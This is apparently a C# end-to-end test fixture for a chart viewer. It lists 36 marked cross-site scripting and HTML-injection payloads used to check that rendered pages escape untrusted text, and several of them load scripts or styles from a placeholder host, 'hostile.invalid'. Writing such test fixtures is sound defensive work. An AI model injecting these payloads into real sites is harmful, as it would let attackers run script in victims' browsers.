namespace HeiChartViewer.Tests.E2E.Fixtures;

/// <summary>Text that acts wherever it is taken for anything but text; each has a mark of its own, by which it is found on a page.</summary>
public static class HostileStrings
{
    /// <summary>Where they all lead to: an address that nobody answers, and that nobody may be asked for.</summary>
    public const string Host = "hostile.invalid";

    private static readonly string[] Forms =
    [
        "<script>alert('#')</script>",
        "<ScRiPt src=//hostile.invalid/#.js></sCrIpT>",
        "\"><script>alert('#')</script>",
        "'><img src=x onerror=alert('#')>",
        "<img src=\"https://hostile.invalid/#.png\">",
        "<svg/onload=alert('#')>",
        "<svg><animate onbegin=alert('#') attributeName=x dur=1s>",
        "<body onload=alert('#')>",
        "<iframe srcdoc=\"<script>parent.alert('#')</script>\">",
        "<iframe src=javascript:alert('#')>",
        "<object data=//hostile.invalid/#></object>",
        "<embed src=//hostile.invalid/#>",
        "<link rel=stylesheet href=//hostile.invalid/#.css>",
        "<style>@import url(//hostile.invalid/#.css);*{display:none}</style>",
        "<base href=//hostile.invalid/#/>",
        "<meta http-equiv=refresh content=\"0;url=//hostile.invalid/#\">",
        "<form action=//hostile.invalid/#><button autofocus onfocus=alert('#')>",
        "<a href=\"javascript:alert('#')\">x</a>",
        "javascript:alert('#')",
        "data:text/html,<script>alert('#')</script>",
        "\" onmouseover=\"alert('#')\" autofocus onfocus=\"alert('#')\" x=\"",
        "' style='background:url(//hostile.invalid/#)' x='",
        "</title></textarea></style></script><script>alert('#')</script>",
        "--><!--<script>alert('#')</script>-->",
        "]]><script>alert('#')</script>",
        "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src onerror=alert('#')&gt;\">",
        "<noscript><p title=\"</noscript><img src=x onerror=alert('#')>\">",
        "<template><script>alert('#')</script></template>",
        "<details open ontoggle=alert('#')>",
        "<video><source onerror=alert('#')></video>",
        "<!--!>BL_# <!--Blazor:{\"type\":\"server\",\"sequence\":0}-->",
        "@(alert('#')) {{constructor.constructor(\"alert('#')\")()}} ${alert('#')}",
        "&lt;script&gt;alert('#')&lt;/script&gt; \\u003cscript\\u003ealert('#')",
        "\u202E<script>alert('#')</script>\u202C\u2028alert('#')\u2029",
        "%3Cscript%3Ealert('#')%3C/script%3E #",
        "x:expression(alert('#'));-moz-binding:url(//hostile.invalid/#)",
    ];

    /// <summary>How many there are.</summary>
    public static int Count => Forms.Length;

    /// <summary>The mark of one.</summary>
    public static string Mark(int number) => $"mark{number:00}";

    /// <summary>One of them.</summary>
    public static string Of(int number) =>
        Forms[number].Replace("#", Mark(number), StringComparison.Ordinal);
}
